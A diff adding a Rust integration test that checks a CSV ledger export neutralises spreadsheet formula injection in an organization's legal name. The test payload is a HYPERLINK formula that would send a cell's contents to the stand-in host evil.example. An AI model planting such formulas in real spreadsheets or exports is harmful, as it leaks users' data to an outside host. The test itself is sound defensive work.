@@ -679,3 +679,36 @@ async fn a_login_flood_is_throttled_and_the_rest_keeps_answering() {
     assert_eq!(res.status(), 200);
     assert_eq!(app.get("/api/v1/stats/summary").await.status(), 200);
 }
+
+#[actix_web::test]
+async fn a_hostile_name_reaches_a_rival_ledger_as_text_never_as_a_formula() {
+    use wufei::db::schema::organizations;
+
+    let app = app().start().await;
+    seed(&mut app.conn()).unwrap();
+    let hostile = r#"=HYPERLINK("http://evil.example/x?"&A1,"Click")"#;
+    // The cement plant, which received fly ash by truck, names itself with a formula.
+    let cement = app.demo_token("cement@demo.wufei.local").await;
+    let me = app.get_json("/api/v1/me", &cement).await;
+    diesel::update(organizations::table.find(me["organization"]["id"].as_str().unwrap()))
+        .set(organizations::legal_name.eq(hostile))
+        .execute(&mut app.conn())
+        .unwrap();
+    let power = app.demo_token("jiuyuan-power@demo.wufei.local").await;
+    let me = app.get_json("/api/v1/me", &power).await;
+    let org = me["organization"]["id"].as_str().unwrap();
+    let res = app
+        .get_as(&format!("/api/v1/organizations/{org}/ledger"), &power)
+        .await;
+    assert_eq!(res.status(), 200);
+    let csv = res.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[4].to_string())
+        .collect();
+    assert!(!names.is_empty(), "the demo ledger has truckloads");
+    for name in names {
+        assert_eq!(name, format!("'{hostile}"), "neutralised, not live");
+    }
+}
